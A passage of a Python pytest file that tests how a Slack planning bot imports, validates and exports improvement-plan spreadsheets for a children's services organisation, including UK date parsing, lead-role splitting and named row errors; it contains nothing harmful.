"""Plans as spreadsheets: importing owners' trackers, rejecting bad ones, and exporting round trips."""

from __future__ import annotations

import copy
import csv
import functools
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.plan.history import (
    LeadRecord,
    MeasureValueRecord,
    PlanArchive,
    ProposalRecord,
    RagChangeRecord,
    TimescaleChangeRecord,
    UpdateRecord,
    UpdateRef,
)
from bot.plan.plan_file import load_bundled_plan
from bot.plan.rag import Rag
from bot.plan.specs import ActionSpec, MeasureSpec, PlanSpec, PrioritySpec
from bot.plan.tallies import TRACKER_ROWS
from bot.spreadsheet import (
    ACTIONS_SHEET,
    HISTORY_SHEET,
    LEADS_SHEET,
    MEASURE_HISTORY_SHEET,
    MEASURES_SHEET,
    PLAN_COLUMNS,
    PLAN_SHEET,
    PROPOSALS_SHEET,
    RAG_FILLS,
    RAG_HISTORY_SHEET,
    TIMESCALE_HISTORY_SHEET,
    TRACKER_SHEET,
    ImportRejected,
    RowProblem,
    parse_uk_date,
    read_plan_table,
    recommendation_cell,
    split_leads,
    split_trailing_refs,
    write_csv,
    write_workbook,
)
from bot.spreadsheet.formulas import guard_formula, unguard_formula

seed_plan = functools.cache(load_bundled_plan)  # read once; tests that change it take a copy

SEED_HEADINGS = [
    "Recommendation",
    "Expected Outcomes",
    "Actions",
    "Lead",
    "Timescale",
    "Progress Update",
    "RAG",
]
GENERIC_HEADINGS = ["No.", "Action description", "Owner", "Due date", "Latest update", "Status"]


def write_rows(path: Path, rows: list[list[object]], delimiter: str = ",") -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, delimiter=delimiter).writerows(rows)
    return path


def write_sheet(path: Path, rows: list[list[object]], merges: tuple[str, ...] = ()) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = "LIP 2018"
    for row in rows:
        sheet.append(row)
    for cells in merges:
        sheet.merge_cells(cells)
    book.save(path)
    return path


def generic(*rows: list[object]) -> list[list[object]]:
    return [GENERIC_HEADINGS, *rows]


def rejected(path: Path, column_map: dict[str, str] | None = None) -> ImportRejected:
    with pytest.raises(ImportRejected) as caught:
        read_plan_table(path, column_map)
    return caught.value


# --- Good files --------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_generic_council_tracker_csv(tmp_path: Path, delimiter: str) -> None:
    path = write_rows(
        tmp_path / "tracker.csv",
        [
            ["Sunderland Children's Services - Improvement Tracker"],
            ["Updated monthly by the performance team"],
            [],
            GENERIC_HEADINGS,
            [
                "1.1",
                "Review the front door",
                "Service Manager & IRO Manager",
                "31/03/2019",
                "Review started",
                "Green",
            ],
            ["1.2", "Audit thresholds (21)", "Head of Service", "31 March 2019", "", "amber"],
            [
                "2.1",
                "Refresh the missing protocol",
                "Chair of MSET; Director of Early Help",
                "31/03/19",
                "Draft shared\nwith partners",
                "",
            ],
            [
                "2.2",
                "Recruit foster carers",
                "Director of Quality Assurance & Performance",
                "",
                "",
                "Completed",
            ],
        ],
        delimiter,
    )

    imported = read_plan_table(path)

    assert imported.updates is None
    assert imported.spec == PlanSpec(
        name="Improvement plan",
        sections={"plan": "Plan"},
        priorities=[
            PrioritySpec(
                number=1,
                section="plan",
                recommendation="Priority 1",
                actions=[
                    ActionSpec(
                        id="1.1",
                        text="Review the front door",
                        leads=["Service Manager", "IRO Manager"],
                        timescale=date(2019, 3, 31),
                        timescale_as_written="31/03/2019",
                        progress="Review started",
                        rag=Rag.GREEN,
                    ),
                    ActionSpec(
                        id="1.2",
                        text="Audit thresholds",
                        leads=["Head of Service"],
                        timescale=date(2019, 3, 31),
                        timescale_as_written="31 March 2019",
                        rag=Rag.AMBER,
                        paragraph_refs=[21],
                    ),
                ],
            ),
            PrioritySpec(
                number=2,
                section="plan",
                recommendation="Priority 2",
                actions=[
                    ActionSpec(
                        id="2.1",
                        text="Refresh the missing protocol",
                        leads=["Chair of MSET", "Director of Early Help"],
                        timescale=date(2019, 3, 31),
                        timescale_as_written="31/03/19",
                        progress="Draft shared\nwith partners",
                    ),
                    ActionSpec(
                        id="2.2",
                        text="Recruit foster carers",
                        leads=["Director of Quality Assurance & Performance"],
                        rag=Rag.COMPLETED,
                    ),
                ],
            ),
        ],
    )


def seed_layout_rows() -> list[list[object]]:
    return [
        ["Together for Children - Learning and Improvement Plan 2018"],
        [],
        SEED_HEADINGS,
        [
            "Priority 1:\nUrgently review ICRT and take action. (para 21, 23, 78)\n(Ref: Ofsted Recommendation 1)",
            "\u2022 Thresholds are at the appropriate level.\n\u2022 Risk is always identified and responded to.",
            "1.1 Commission an independent review of ICRT (21) (78).",
            "Director of Quality Assurance & Performance",
            datetime(2018, 9, 1),
            "Independent review concluded.",
            "Completed",
        ],
        [
            None,
            None,
            "1.2 Agree and implement new ICRT model",
            "Service Manager & IRO Manager",
            datetime(2018, 10, 31),
            None,
            "Green",
        ],
        SEED_HEADINGS,  # the header, repeated after a page break
        [
            None,
            None,
            "1.3 Put in place task groups",
            "Service Manager - ICRT",
            datetime(2018, 9, 30),
            None,
            None,
        ],
        [
            "Priority 7: Ensure that children do not drift. (27, 36) (Ref: Ofsted Recommendation 9)",
            "Plans progress without delay.",
            "7.1 Implement a revised PLO process (36)",
            "Service Manager \u2013 CP",
            "31/03/19",
            None,
            "amber",
        ],
        [
            None,
            None,
            "7.2 Track pre-proceedings cases",
            "Head of Service and Team Manager",
            None,
            "Tracker built",
            None,
        ],
    ]


def test_b_an_xlsx_in_the_seeds_own_layout(tmp_path: Path) -> None:
    path = write_sheet(tmp_path / "lip.xlsx", seed_layout_rows(), merges=("A4:A5", "B4:B5"))

    spec = read_plan_table(path).spec

    assert spec == PlanSpec(
        name="Improvement plan",
        sections={"plan": "Plan"},
        priorities=[
            PrioritySpec(
                number=1,
                section="plan",
                recommendation="Urgently review ICRT and take action.",
                ofsted_recommendation=1,
                paragraph_refs=[21, 23, 78],
                expected_outcomes=[
                    "Thresholds are at the appropriate level.",
                    "Risk is always identified and responded to.",
                ],
                actions=[
                    ActionSpec(
                        id="1.1",
                        # The full stop after the refs "(21) (78)." stays with the sentence.
                        text="Commission an independent review of ICRT.",
                        leads=["Director of Quality Assurance & Performance"],
                        timescale=date(2018, 9, 1),
                        progress="Independent review concluded.",
                        rag=Rag.COMPLETED,
                        paragraph_refs=[21, 78],
                    ),
                    ActionSpec(
                        id="1.2",
                        text="Agree and implement new ICRT model",
                        leads=["Service Manager", "IRO Manager"],
                        timescale=date(2018, 10, 31),
                        rag=Rag.GREEN,
                    ),
                    ActionSpec(
                        id="1.3",
                        text="Put in place task groups",
                        leads=["Service Manager - ICRT"],
                        timescale=date(2018, 9, 30),
                    ),
                ],
            ),
            PrioritySpec(
                number=7,
                section="plan",
                recommendation="Ensure that children do not drift.",
                ofsted_recommendation=9,
                paragraph_refs=[27, 36],
                expected_outcomes=["Plans progress without delay."],
                actions=[
                    ActionSpec(
                        id="7.1",
                        text="Implement a revised PLO process",
                        leads=["Service Manager - CP"],
                        timescale=date(2019, 3, 31),
                        timescale_as_written="31/03/19",
                        rag=Rag.AMBER,
                        paragraph_refs=[36],
                    ),
                    ActionSpec(
                        id="7.2",
                        text="Track pre-proceedings cases",
                        leads=["Head of Service", "Team Manager"],
                        progress="Tracker built",
                    ),
                ],
            ),
        ],
    )


def test_a_section_column_names_the_sections_and_a_priority_column_is_checked(
    tmp_path: Path,
) -> None:
    path = write_rows(
        tmp_path / "plan.csv",
        [
            ["Section", "Priority", "Ref", "Action", "Lead", "Timescale", "RAG"],
            [
                "Leadership, management and governance",
                "3",
                "3.1",
                "Agree scrutiny model",
                "CEO of TfC",
                "",
                "",
            ],
            ["Early help", "4", "1", "Launch the hub", "Director of Early Help", "", "Red"],
            ["", "", "2", "Train staff", "Workforce Development Manager", "", ""],
        ],
    )

    spec = read_plan_table(path).spec

    assert spec.sections == {
        "leadership": "Leadership, management and governance",
        "early_help": "Early help",
    }
    assert [(p.number, p.section) for p in spec.priorities] == [
        (3, "leadership"),
        (4, "early_help"),
    ]
    # Bare numbers under a priority are that priority's actions.
    assert [a.id for a in spec.actions] == ["3.1", "4.1", "4.2"]


def test_map_names_columns_detection_would_miss(tmp_path: Path) -> None:
    path = write_rows(
        tmp_path / "plan.csv",
        [
            ["Item", "What we will do", "Who", "Status"],
            ["1.1", "Review the front door", "Service Manager", "On hold"],
        ],
    )

    spec = read_plan_table(
        path, {"Item": "action_id", "What we will do": "action", "Who": "lead", "Status": "ignore"}
    ).spec

    assert spec.actions == [
        ActionSpec(id="1.1", text="Review the front door", leads=["Service Manager"])
    ]


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("31/03/2019", date(2019, 3, 31)),
        ("31/03/19", date(2019, 3, 31)),
        ("1/4/19", date(2019, 4, 1)),
        ("1.4.2019", date(2019, 4, 1)),
        ("31-03-2019", date(2019, 3, 31)),
        ("31 March 2019", date(2019, 3, 31)),
        ("31 Mar 19", date(2019, 3, 31)),
        ("1st Sept 2019", date(2019, 9, 1)),
        ("2019-03-31", date(2019, 3, 31)),
        ("03/31/2019", None),  # month first is never guessed
        ("31/13/19", None),
        ("30/02/2019", None),
        ("March 2019", None),
        ("TBC", None),
    ],
)
def test_uk_dates(written: str, expected: date | None) -> None:
    assert parse_uk_date(written) == expected


@pytest.mark.parametrize(
    ("cell", "roles"),
    [
        ("Service Manager & IRO Manager", ["Service Manager", "IRO Manager"]),
        (
            "Director of Quality Assurance & Performance",
            ["Director of Quality Assurance & Performance"],
        ),
        ("ICRT Manager and MSET Co-ordinator", ["ICRT Manager", "MSET Co-ordinator"]),
        (
            "CEO of TfC & Head of Contractual Relationships in Sunderland Council",
            ["CEO of TfC", "Head of Contractual Relationships in Sunderland Council"],
        ),
        (
            "Service Managers & Quality and Performance Manager",
            ["Service Managers", "Quality and Performance Manager"],
        ),
        ("Quality and Performance Manager", ["Quality and Performance Manager"]),
        (
            "Service Manager and service users",
            ["Service Manager and service users"],
        ),  # lower case: no split
        ("Service Manager / IRO Manager", ["Service Manager", "IRO Manager"]),
        ("CSE/MSET Co-ordinator", ["CSE/MSET Co-ordinator"]),
        ("Service Manager\nIRO Manager", ["Service Manager", "IRO Manager"]),
        ("Chair of MSET; Director of Early Help;", ["Chair of MSET", "Director of Early Help"]),
        ("Service Manager \u2013ICRT", ["Service Manager - ICRT"]),
        ("Service Manager & Service Manager", ["Service Manager"]),
        # The rule splits this seed role ("Workforce" is a role word) ...
        (
            "Chair of SSCB Learning and Workforce Development Group",
            ["Chair of SSCB Learning", "Workforce Development Group"],
        ),
        # ... unless the cell ends with ";", as planbot's exports write it.
        (
            "Chair of SSCB Learning and Workforce Development Group;",
            ["Chair of SSCB Learning and Workforce Development Group"],
        ),
        ("", []),
        (None, []),
    ],
)
def test_compound_leads_split_on_role_words(cell: str | None, roles: list[str]) -> None:
    assert split_leads(cell) == roles


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # The sentence keeps its full stop when the refs after it go (as the seed plan writes).
        ("Commission a review (21) (78).", ("Commission a review.", [21, 78], None)),
        (
            "Urgently review ICRT. (para 21, 23, 78) (Ref: Ofsted Recommendation 1)",
            ("Urgently review ICRT.", [21, 23, 78], 1),
        ),
        ("Review the plan (2019)", ("Review the plan (2019)", [], None)),
        ("Review (see page 4)", ("Review (see page 4)", [], None)),
    ],
)
def test_trailing_paragraph_and_ofsted_refs(
    text: str, expected: tuple[str, list[int], int | None]
) -> None:
    assert split_trailing_refs(text, ofsted=True) == expected


# --- Bad files ---------------------------------------------------------------------------------


def test_a_bad_date_names_row_column_and_fix(tmp_path: Path) -> None:
    path = write_rows(
        tmp_path / "plan.csv",
        generic(
            ["1.1", "Review the front door", "Service Manager", "31/03/2019", "", ""],
            ["1.2", "Audit thresholds", "Service Manager", "31/13/19", "", ""],
        ),
    )

    error = rejected(path)

    assert error.problems == [
        RowProblem(3, "Due date", "'31/13/19' is not a date; write it as dd/mm/yyyy")
    ]
    assert (
        str(error) == "plan.csv row 3 (Due date): '31/13/19' is not a date; write it as dd/mm/yyyy"
    )


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        (
            ["1.1", "Audit thresholds", "", "", "", ""],
            RowProblem(3, "No.", "action 1.1 appears twice (first on row 2)"),
        ),
        (
            ["1.2", "Audit thresholds", "", "", "", "Purple"],
            RowProblem(
                3,
                "Status",
                "'Purple' is not a RAG rating; use Red, Amber, Green, Completed, "
                "or empty for not yet rated",
            ),
        ),
        (
            ["", "Audit thresholds", "", "", "", ""],
            RowProblem(3, "No.", "no action id: the No. cell is empty"),
        ),
        (
            ["one.two", "Audit thresholds", "", "", "", ""],
            RowProblem(3, "No.", "'one.two' is not an action number like 7.3"),
        ),
        (
            ["1.2", "", "", "", "", "Green"],
            RowProblem(3, "Action description", "action 1.2 has no action text"),
        ),
        (
            ["", "", "Service Manager", "", "", ""],
            RowProblem(
                3,
                "No.",
                "no action id and no action text; every row below the header row must be an "
                "action (delete the row if it is not)",
            ),
        ),
    ],
)
def test_each_bad_row_is_named(tmp_path: Path, row: list[object], problem: RowProblem) -> None:
    path = write_rows(
        tmp_path / "plan.csv", generic(["1.1", "Review the front door", "", "", "", ""], row)
    )

    assert rejected(path).problems == [problem]


NUMBER_HINT = (
    "Excel stored this id as a number (1.10 becomes 1.1): format the Ref column as Text "
    "and retype the ids"
)


@pytest.mark.parametrize(
    ("first", "second", "hint"),
    [
        (1.1, 1.1, True),  # typed 1.1 and 1.10; Excel keeps both as the number 1.1
        ("1.1", 1.1, True),  # only the second was stored as a number
        (1.1, "1.1", True),  # only the first was
        ("1.1", "1.1", False),  # text ids: a real duplicate, no hint
    ],
    ids=["both numbers", "second a number", "first a number", "both text"],
)
def test_an_id_excel_stored_as_a_number_says_so(
    tmp_path: Path, first: object, second: object, hint: bool
) -> None:
    path = write_sheet(
        tmp_path / "plan.xlsx",
        [
            ["Ref", "Action"],
            [first, "Review the front door"],
            [second, "Audit thresholds"],
        ],
    )

    message = "action 1.1 appears twice (first on row 2)" + (f"; {NUMBER_HINT}" if hint else "")
    assert rejected(path).problems == [RowProblem(3, "Ref", message)]


def test_ids_excel_stored_as_numbers_are_read_when_they_are_distinct(tmp_path: Path) -> None:
    path = write_sheet(
        tmp_path / "plan.xlsx", [["Ref", "Action"], [1.1, "Review"], [1.2, "Audit"], [2.1, "Train"]]
    )

    assert [a.id for a in read_plan_table(path).spec.actions] == ["1.1", "1.2", "2.1"]


def test_a_missing_id_in_the_seed_layout_points_at_the_actions_cell(tmp_path: Path) -> None:
    rows = seed_layout_rows()
    rows[6][2] = "Put in place task groups"
    path = write_sheet(tmp_path / "lip.xlsx", rows)

    assert rejected(path).problems == [
        RowProblem(
            7,
            "Actions",
            "no action id: the Actions cell does not start with an action number like 7.3",
        )
    ]


def test_an_id_outside_its_priority_column_is_rejected(tmp_path: Path) -> None:
    path = write_rows(
        tmp_path / "plan.csv",
        [
            ["Priority", "Ref", "Action"],
            ["7", "7.1", "Implement PLO"],
            ["8", "7.2", "Track cases"],
        ],
    )

    assert rejected(path).problems == [
        RowProblem(
            3, "Priority", "action 7.2 belongs to priority 7, but the Priority cell says priority 8"
        )
    ]


def test_every_bad_row_is_reported_and_nothing_is_returned(tmp_path: Path) -> None:
    path = write_rows(
        tmp_path / "plan.csv",
        generic(
            ["1.1", "Review the front door", "Service Manager", "31/03/2019", "", "Green"],
            ["1.2", "Audit thresholds", "Service Manager", "31/13/19", "", "Purple"],
            ["1.1", "Review it again", "Service Manager", "", "", ""],
            ["", "Train staff", "", "Friday", "", ""],
            ["2.1", "Recruit carers", "", "", "", "Green"],
        ),
    )

    error = rejected(path)

    assert [(p.row, p.column) for p in error.problems] == [
        (3, "Due date"),
        (3, "Status"),
        (4, "No."),
        (5, "No."),
    ]
    report = str(error)
    assert report.startswith("plan.csv cannot be imported (4 problems); nothing was loaded:")
    assert "plan.csv row 4 (No.): action 1.1 appears twice (first on row 2)" in report


def test_a_bad_map_lists_valid_fields_and_the_files_columns(tmp_path: Path) -> None:
    path = write_rows(
        tmp_path / "plan.csv", generic(["1.1", "Review the front door", "", "", "", ""])
    )

    error = rejected(path, {"Owner": "owner_name", "Who": "lead"})

    [bad_field, bad_column] = error.problems
    assert bad_field.column == "Owner"
    assert (
        "'owner_name' is not a field; valid fields: action_id, action, lead," in bad_field.message
    )
    assert bad_column.column == "Who"
    assert bad_column.message == (
        "--map Who=lead: there is no column 'Who' in the file; its columns are: "
        "'No.', 'Action description', 'Owner', 'Due date', 'Latest update', 'Status'"
    )


@pytest.mark.parametrize("name", ["plan.xls", "plan.ods", "plan.txt", "plan"])
def test_an_unsupported_file_type_names_the_supported_ones(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text("No.,Action\n1.1,Do it\n")

    message = str(rejected(path))

    assert message.startswith(f"{name}: cannot import")
    assert ".xlsx (Excel workbook) or .csv" in message


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("empty.csv", "", "empty.csv: the file is empty"),
        ("blank.csv", ",,\n,,\n", "blank.csv: the file is empty: no plan table found"),
        (
            "minutes.csv",
            "Meeting,Date\nQIC,01/10/18\n",
            "minutes.csv: no header row found in the first 10 rows",
        ),
        ("broken.xlsx", "not a zip", "broken.xlsx: not a readable .xlsx workbook"),
        ("only.csv", "Ref,Action,Lead\n", "only.csv row 1: no actions below the header row"),
    ],
)
def test_files_without_a_plan_are_rejected(
    tmp_path: Path, name: str, content: str, expected: str
) -> None:
    path = tmp_path / name
    path.write_text(content)

    assert str(rejected(path)).startswith(expected)


def test_an_empty_workbook_is_rejected(tmp_path: Path) -> None:
    path = write_sheet(tmp_path / "empty.xlsx", [])

    assert str(rejected(path)) == "empty.xlsx: the file is empty: no plan table found"


def test_a_bad_history_row_names_its_sheet(tmp_path: Path) -> None:
    path = write_workbook(
        tmp_path / "plan.xlsx",
        PlanArchive(
            small_plan(),
            updates=[UpdateRecord("9.9", datetime(2019, 1, 1, tzinfo=UTC), "Done", None, "reply")],
        ),
    )

    assert rejected(path).problems == [
        RowProblem(2, "Action", "'9.9' is not an action of this plan", HISTORY_SHEET)
    ]


def measured_plan() -> PlanSpec:
    return PlanSpec(
        name="Measured plan",
        sections={"plan": "Plan"},
        priorities=[
            PrioritySpec(
                number=1,
                section="plan",
                recommendation="Priority 1",
                kpis=[MeasureSpec("Re-referrals", "21%")],
                quality_measures=[MeasureSpec("Audits graded good")],
                actions=[
                    # Re-timed once, as GOOD_ROWS' Timescale history row says.
                    ActionSpec(
                        id="1.1",
                        text="Review the front door",
                        leads=["Service Manager"],
                        timescale=date(2019, 6, 30),
                        original_timescale=date(2019, 3, 31),
                    ),
                    ActionSpec(
                        id="1.2",
                        text="Audit thresholds",
                        leads=["Head of Service", "Service Manager - ICRT"],
                        timescale=date(2019, 3, 31),
                        original_timescale=date(2019, 3, 31),
                    ),
                ],
            )
        ],
    )


def empty_archive() -> PlanArchive:
    return PlanArchive(
        measured_plan(),
        updates=[],
        rag_changes=[],
        timescale_changes=[],
        leads=[],
        measure_values=[],
        proposals=[],
    )


AT = "2019-01-01T09:00:00+00:00"
USER = "U0123ABCD"  # Slack user ids
OTHER_USER = "W0456EFGH"
ISO_FIX = "write it as 2019-03-31T09:00:00+00:00"
GOOD_ROWS: dict[str, dict[str, object]] = {
    HISTORY_SHEET: {
        "Action": "1.1",
        "Date": AT,
        "Author": "U1",
        "Source": "reply",
        "Update": "Done",
        "Retracted": None,
        "Slack channel": None,
        "Slack ts": None,
        "Edited": None,
    },
    RAG_HISTORY_SHEET: {
        "Action": "1.1",
        "Date": AT,
        "From": "Not yet rated",
        "To": "Green",
        "By": "U1",
        "Via": "approval",
        "Reason": None,
        "Proposal": None,
    },
    PROPOSALS_SHEET: {
        "Proposal": 1,
        "Action": "1.1",
        "Proposed at": AT,
        "Proposed by": "U1",
        "RAG": "Green",
        "Revised timescale": None,
        "Evidence": None,
        "Status": "awaiting_approval",
        "Confirmed at": AT,
        "Decided at": None,
        "Decided by": None,
        "Reason": None,
        "Update date": None,
        "Update author": None,
        "Update channel": None,
        "Update ts": None,
        "Echo channel": None,
        "Echo ts": None,
        "Approval messages": None,
    },
    TIMESCALE_HISTORY_SHEET: {
        "Action": "1.1",
        "Date": AT,
        "From": "31/03/2019",
        "To": "30/06/2019",
        "By": "U1",
        "Via": "command",
        "Reason": "Delayed",
    },
    LEADS_SHEET: {"Role": "Service Manager", "Slack user": USER, "Deputy": None},
    MEASURE_HISTORY_SHEET: {
        "Priority": 1,
        "Kind": "KPI",
        "Measure": "Re-referrals",
        "Value": "19%",
        "Date": AT,
        "By": "U1",
        "Source": "command",
    },
}


def history_workbook(tmp_path: Path, rows: dict[str, list[dict[str, object]]]) -> Path:
    """The measured plan's workbook with these rows (each a GOOD_ROWS row with some cells changed)
    under the headings of their history sheets."""
    path = write_workbook(tmp_path / "plan.xlsx", empty_archive())
    book = load_workbook(path)
    for sheet, changed_rows in rows.items():
        for changes in changed_rows:
            book[sheet].append(list({**GOOD_ROWS[sheet], **changes}.values()))
    book.save(path)
    return path


def test_good_rows_of_every_history_sheet_are_read(tmp_path: Path) -> None:
    path = history_workbook(tmp_path, {sheet: [{}] for sheet in GOOD_ROWS})

    back = read_plan_table(path)

    at = datetime(2019, 1, 1, 9, tzinfo=UTC)
    assert back.updates == [UpdateRecord("1.1", at, "Done", "U1", "reply")]
    assert back.rag_changes == [
        RagChangeRecord("1.1", at, Rag.UNRATED, Rag.GREEN, "U1", "approval")
    ]
    assert back.timescale_changes == [
        TimescaleChangeRecord(
            "1.1", at, date(2019, 3, 31), date(2019, 6, 30), "U1", "command", "Delayed"
        )
    ]
    assert back.leads == [LeadRecord("Service Manager", USER)]
    assert back.measure_values == [
        MeasureValueRecord(1, "kpi", "Re-referrals", "19%", at, "U1", "command")
    ]
    assert back.proposals == [
        ProposalRecord(1, "1.1", at, "U1", Rag.GREEN, None, None, "awaiting_approval", None, at)
    ]


RAG_WORDS = "use Red, Amber, Green, Completed, or empty for not yet rated"


@pytest.mark.parametrize(
    ("sheet", "changes", "problem"),
    [
        (
            HISTORY_SHEET,
            {"Retracted": "yesterday"},
            RowProblem(2, "Retracted", f"'yesterday' is not a date and time ({ISO_FIX})"),
        ),
        (
            HISTORY_SHEET,
            {"Date": None},
            RowProblem(2, "Date", f"no date and time: {ISO_FIX}"),
        ),
        (
            RAG_HISTORY_SHEET,
            {"Action": "9.9"},
            RowProblem(2, "Action", "'9.9' is not an action of this plan"),
        ),
        (
            RAG_HISTORY_SHEET,
            {"Date": "31/01/2019"},
            RowProblem(2, "Date", f"'31/01/2019' is not a date and time ({ISO_FIX})"),
        ),
        (
            RAG_HISTORY_SHEET,
            {"From": "Purple"},
            RowProblem(2, "From", f"'Purple' is not a RAG rating; {RAG_WORDS}"),
        ),
        (
            RAG_HISTORY_SHEET,
            {"To": "On track"},
            RowProblem(2, "To", f"'On track' is not a RAG rating; {RAG_WORDS}"),
        ),
        (
            TIMESCALE_HISTORY_SHEET,
            {"Action": "1.3"},
            RowProblem(2, "Action", "'1.3' is not an action of this plan"),
        ),
        (
            TIMESCALE_HISTORY_SHEET,
            {"From": "TBC"},
            RowProblem(2, "From", "'TBC' is not a date; write it as dd/mm/yyyy"),
        ),
        (
            TIMESCALE_HISTORY_SHEET,
            {"To": "31/13/2019"},
            RowProblem(2, "To", "'31/13/2019' is not a date; write it as dd/mm/yyyy"),
        ),
        (
            TIMESCALE_HISTORY_SHEET,
            {"Date": "soon"},
            RowProblem(2, "Date", f"'soon' is not a date and time ({ISO_FIX})"),
        ),
        (
            LEADS_SHEET,
            {"Slack user": None},
            RowProblem(2, "Slack user", "the Slack user is empty"),
        ),
        (
            LEADS_SHEET,
            {"Role": None},
            RowProblem(2, "Role", "the role is empty"),
        ),
        (
            LEADS_SHEET,
            {"Deputy": "maybe"},
            RowProblem(2, "Deputy", "'maybe' is not yes (a deputy) or empty (a lead)"),
        ),
        (
            MEASURE_HISTORY_SHEET,
            {"Priority": 9},
            RowProblem(2, "Priority", "'9' is not a priority of this plan"),
        ),
        (
            MEASURE_HISTORY_SHEET,
            {"Kind": "Target"},
            RowProblem(2, "Kind", "'Target' is not KPI or Quality measure"),
        ),
        (
            MEASURE_HISTORY_SHEET,
            {"Measure": "Caseloads"},
            RowProblem(
                2,
                "Measure",
                "'Caseloads' is not a KPI of priority 1 (see the KPIs and quality measures sheet)",
            ),
        ),
        (
            MEASURE_HISTORY_SHEET,
            {"Kind": "Quality measure"},  # Re-referrals is a KPI, not a quality measure
            RowProblem(
                2,
                "Measure",
                "'Re-referrals' is not a quality measure of priority 1 "
                "(see the KPIs and quality measures sheet)",
            ),
        ),
        (
            MEASURE_HISTORY_SHEET,
            {"Value": None},
            RowProblem(2, "Value", "the value is empty"),
        ),
        (
            MEASURE_HISTORY_SHEET,
            {"Date": "Jan 2019"},
            RowProblem(2, "Date", f"'Jan 2019' is not a date and time ({ISO_FIX})"),
        ),
    ],
)
def test_each_bad_history_cell_is_named(
    tmp_path: Path, sheet: str, changes: dict[str, object], problem: RowProblem
) -> None:
    path = history_workbook(tmp_path, {sheet: [changes]})

    [found] = rejected(path).problems
    assert found == RowProblem(problem.row, problem.column, problem.message, sheet)


def test_a_lead_listed_twice_is_named(tmp_path: Path) -> None:
    path = history_workbook(
        tmp_path,
        {LEADS_SHEET: [{}, {"Slack user": OTHER_USER, "Deputy": "yes"}, {"Deputy": "yes"}]},
    )

    assert rejected(path).problems == [
        RowProblem(
            4,
            "Slack user",
            f"{USER} is listed for the role 'Service Manager' twice (first on row 2)",
            LEADS_SHEET,
        )
    ]


def test_a_history_sheet_without_its_headings_is_named(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "plan.xlsx", empty_archive())
    book = load_workbook(path)
    book[RAG_HISTORY_SHEET]["C1"] = "Old RAG"
    book.save(path)

    assert rejected(path).problems == [
        RowProblem(
            1,
            None,
            "the first row needs the headings Action, Date, From, To, By, Via, Reason "
            "(missing: From)",
            RAG_HISTORY_SHEET,
        )
    ]


def test_every_bad_history_row_is_reported_at_once(tmp_path: Path) -> None:
    path = history_workbook(
        tmp_path,
        {
            HISTORY_SHEET: [{}, {"Action": "7.7", "Update": None}],
            RAG_HISTORY_SHEET: [{"To": "Purple"}, {}],
            TIMESCALE_HISTORY_SHEET: [{"From": "TBC", "To": "later"}],
            LEADS_SHEET: [{}, {}],
            MEASURE_HISTORY_SHEET: [{"Priority": "one", "Value": None}],
        },
    )

    error = rejected(path)

    assert [(p.sheet, p.row, p.column) for p in error.problems] == [
        (HISTORY_SHEET, 3, "Action"),
        (HISTORY_SHEET, 3, "Update"),
        (RAG_HISTORY_SHEET, 2, "To"),
        (TIMESCALE_HISTORY_SHEET, 2, "From"),
        (TIMESCALE_HISTORY_SHEET, 2, "To"),
        (LEADS_SHEET, 3, "Slack user"),
        (MEASURE_HISTORY_SHEET, 2, "Priority"),
        (MEASURE_HISTORY_SHEET, 2, "Value"),
    ]
    report = str(error)
    assert report.startswith("plan.xlsx cannot be imported (8 problems); nothing was loaded:")
    assert (
        f"plan.xlsx sheet 'RAG history' row 2 (To): 'Purple' is not a RAG rating; {RAG_WORDS}"
        in report
    )


# --- Files the store could not load ----------------------------------------------------------

SLACK_ID_FIX = (
    "Slack user ids look like U0123ABCD (in Slack, open the person's profile, choose ⋮ and "
    "Copy member ID)"
)


def test_a_leads_role_is_matched_to_the_plans_spelling(tmp_path: Path) -> None:
    path = history_workbook(
        tmp_path,
        {
            LEADS_SHEET: [
                {"Role": "service manager"},
                {"Role": "Service Manager \u2013ICRT"},  # an en dash, and no space after it
                {"Role": "  HEAD  OF service ", "Slack user": OTHER_USER, "Deputy": "yes"},
            ]
        },
    )

    assert read_plan_table(path).leads == [
        LeadRecord("Service Manager", USER),
        LeadRecord("Service Manager - ICRT", USER),
        LeadRecord("Head of Service", OTHER_USER, deputy=True),
    ]


def test_a_leads_role_spelt_twice_is_listed_twice(tmp_path: Path) -> None:
    path = history_workbook(tmp_path, {LEADS_SHEET: [{}, {"Role": "SERVICE  MANAGER"}]})

    assert rejected(path).problems == [
        RowProblem(
            3,
            "Slack user",
            f"{USER} is listed for the role 'Service Manager' twice (first on row 2)",
            LEADS_SHEET,
        )
    ]


def test_a_leads_role_no_action_has_is_named_with_the_plans_roles(tmp_path: Path) -> None:
    path = history_workbook(tmp_path, {LEADS_SHEET: [{}, {"Role": "Head of Services"}]})

    assert rejected(path).problems == [
        RowProblem(
            3,
            "Role",
            "'Head of Services' is not a lead role of any action in the Plan sheet; roles are: "
            "'Head of Service', 'Service Manager', 'Service Manager - ICRT'",
            LEADS_SHEET,
        )
    ]


def test_a_leads_role_lists_the_eight_closest_of_many(tmp_path: Path) -> None:
    spec = seed_plan()
    roles = {role for action in spec.actions for role in action.leads}
    path = write_workbook(
        tmp_path / "plan.xlsx",
        PlanArchive(spec, leads=[LeadRecord("Service Manger - CP", USER)]),
    )

    [problem] = rejected(path).problems

    assert (problem.sheet, problem.row, problem.column) == (LEADS_SHEET, 2, "Role")
    prefix = (
        "'Service Manger - CP' is not a lead role of any action in the Plan sheet; roles are: "
        "'Service Manager - CP', "
    )
    assert problem.message.startswith(prefix)
    assert problem.message.endswith(f" (and {len(roles) - 8} more)")
    assert problem.message.count("'") == 2 * 9  # the role written, and eight of the plan's


@pytest.mark.parametrize("user", ["U1", "u0123abcd", "C0123ABCD", "@jo.bloggs", "U0123 ABCD"])
def test_a_leads_slack_user_must_be_a_user_id(tmp_path: Path, user: str) -> None:
    path = history_workbook(tmp_path, {LEADS_SHEET: [{"Slack user": user}]})

    assert rejected(path).problems == [
